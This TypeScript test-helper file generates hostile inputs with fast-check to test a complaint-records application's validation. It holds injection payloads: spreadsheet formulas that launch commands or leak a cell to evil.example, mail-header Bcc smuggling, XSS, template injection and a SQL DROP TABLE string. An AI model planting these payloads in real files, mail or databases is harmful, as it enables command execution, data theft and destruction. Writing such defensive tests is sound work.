import fc from 'fast-check';
import { CHANNELS, OUTCOMES, REMEDIES, STAGES } from '@app/domain';
import type { ComplaintSubmission } from '@app/domain';

/** Shapes of hostile text shared by the hostile-input tests. */

/** Any UTF-16 code unit, so lone surrogates, NUL and every control character occur. */
export function anyUtf16String(maxLength = 60): fc.Arbitrary<string> {
  return fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)), maxLength });
}

/** Strings a spreadsheet would run as a formula (OWASP CSV injection list). */
export const FORMULA_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=1+1',
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
];

export function formulaPayload(): fc.Arbitrary<string> {
  return fc.oneof(fc.constantFrom(...FORMULA_PAYLOADS), fc.tuple(fc.constantFrom('=', '+', '-', '@'), fc.string({ maxLength: 40 })).map(([a, b]) => a + b));
}

/** Text meant to start a new mail header or smuggle a recipient. */
export const HEADER_INJECTIONS = [
  'Sam\r\nBcc: victim@evil.example',
  'Sam\nBcc: victim@evil.example',
  'Sam\rBcc: victim@evil.example',
  'Sam\r\n\r\n<html>body</html>',
  'Sam%0d%0aBcc: victim@evil.example',
  'Sam\u0000Jones',
  'Sam\u0085Bcc: victim@evil.example',
  'Sam\u2028Bcc: victim@evil.example',
  'Sam\u202eevil',
];

export function hostileString(): fc.Arbitrary<string> {
  return fc.oneof(
    fc.string({ unit: 'binary', maxLength: 80 }),
    anyUtf16String(80),
    formulaPayload(),
    fc.constantFrom(...HEADER_INJECTIONS),
    fc.constantFrom('<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '{{constructor.constructor("return process")()}}', "'; DROP TABLE complaint; --", '\u0000', '\ud800', '\udfff\ud800', '\ufeff', ''),
  );
}

function text(minCodePoints: number, maxCodePoints: number, prefix: string): fc.Arbitrary<string> {
  // Variation selectors do not count towards class-validator's length, so a prefix carries the minimum.
  const body = fc.string({ unit: 'binary', maxLength: Math.max(0, maxCodePoints - prefix.length) }).map((s) => s.replace(/\u0000|\ufe0e|\ufe0f/g, ' '));
  return body.map((s) => prefix + s).filter((s) => Array.from(s).length >= minCodePoints);
}

export type RawRecord = ComplaintSubmission;

/** A record that keeps every rule of DESIGN.md ("Complaint record"), with hostile but legal text. */
export function validRecordArbitrary(now: Date): fc.Arbitrary<RawRecord> {
  const received = fc.date({ min: new Date('2000-01-01T00:00:00Z'), max: now, noInvalidDate: true });
  return fc
    .record(
      {
        reference: text(1, 100, 'R'),
        received,
        closedAfterDays: fc.integer({ min: 0, max: 400 }),
        serviceArea: text(1, 200, 'S'),
        channel: fc.constantFrom(...CHANNELS),
        stage: fc.constantFrom(...STAGES),
        summary: text(20, 400, 'Summary of complaint:'),
        outcome: fc.constantFrom(...OUTCOMES),
        learning: text(0, 300, ''),
        // A body's own id (DESIGN.md: `scheme:value`); any legal text after the scheme.
        complainantId: text(1, 200 - 'local:'.length, 'C').map((id) => `local:${id}`),
        remedies: fc.array(fc.constantFrom(...REMEDIES), { maxLength: REMEDIES.length * 2 }),
      },
      { requiredKeys: ['reference', 'received', 'serviceArea', 'summary', 'outcome'] },
    )
    .map((r) => {
      const record: RawRecord = { reference: r.reference, receivedAt: r.received.toISOString(), serviceArea: r.serviceArea, summary: r.summary, outcome: r.outcome };
      if (r.closedAfterDays !== undefined) record.closedAt = new Date(r.received.getTime() + r.closedAfterDays * 86_400_000).toISOString();
      if (r.channel !== undefined) record.channel = r.channel;
      if (r.stage !== undefined) record.stage = r.stage;
      if (r.learning !== undefined) record.learning = r.learning;
      if (r.complainantId !== undefined) record.complainantId = r.complainantId;
      if (r.remedies !== undefined) record.remedies = r.remedies;
      return record;
    });
}

/** [[[…[1]…]]] `depth` levels deep, built without recursion. */
export function deeplyNested(depth: number): unknown {
  let value: unknown = 1;
  for (let i = 0; i < depth; i += 1) value = [value];
  return value;
}

/** The same, as JSON text (JSON.stringify would overflow the stack). */
export function deeplyNestedJson(depth: number): string {
  return `${'['.repeat(depth)}1${']'.repeat(depth)}`;
}
